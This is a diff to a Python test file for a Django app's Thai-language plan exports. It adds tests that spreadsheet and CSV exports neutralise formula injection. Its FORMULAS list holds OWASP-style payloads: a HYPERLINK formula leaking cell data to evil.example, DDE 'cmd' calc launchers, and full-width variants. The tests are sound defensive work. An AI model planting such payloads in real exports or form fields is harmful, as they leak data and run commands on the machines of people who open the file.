@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import re
@@ -360,6 +361,59 @@ def test_it_exports_the_plan_as_xlsx(plan, measure, progress, staff):
     assert (row["title"], row["indicators"]) == ("มาตรการเผยแพร่ข้อมูลต่อสาธารณะ", "9 10")
     assert row["timeline_text"] == "ม.ค. – มี.ค. ๒๕๖๖"
     assert (row["progress_count"], row["last_progress_done"]) == (1, "ประชุมชี้แจง")
+
+
+# OWASP's CSV injection prefixes, and their full-width forms.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "＝1+2",
+    "＋1+2",
+    "－1+2",
+    "＠SUM(1+9)",
+]
+
+
+@pytest.fixture
+def formula_measures(plan):
+    return [
+        Measure.objects.create(plan=plan, order=n, title=title, indicators=[n % 10 + 1])
+        for n, title in enumerate(FORMULAS, start=1)
+    ]
+
+
+def test_it_exports_titles_that_look_like_formulas_as_text_in_xlsx(formula_measures, staff):
+    response = client_for(staff).get(
+        reverse(
+            "measures:plan_export", args=[formula_measures[0].plan.organisation_id, 2566, "xlsx"]
+        )
+    )
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    header = [c.value for c in next(sheet.iter_rows())]
+    titles = [row[header.index("title")] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in titles] == FORMULAS
+    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
+    years = [row[header.index("fiscal_year")] for row in sheet.iter_rows(min_row=2)]
+    assert {(c.value, c.data_type) for c in years} == {(2566, "n")}  # numbers stay numbers
+
+
+def test_it_exports_titles_that_look_like_formulas_behind_an_apostrophe_in_csv(
+    formula_measures, staff
+):
+    response = client_for(staff).get(
+        reverse(
+            "measures:plan_export", args=[formula_measures[0].plan.organisation_id, 2566, "csv"]
+        )
+    )
+    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
+    assert [row[header.index("title")] for row in rows] == ["'" + f for f in FORMULAS]
+    assert [row[header.index("order")] for row in rows] == [str(n) for n in range(1, 11)]
 
 
 def test_it_shows_a_person_the_measures_they_own(measure, reviewer, staff):
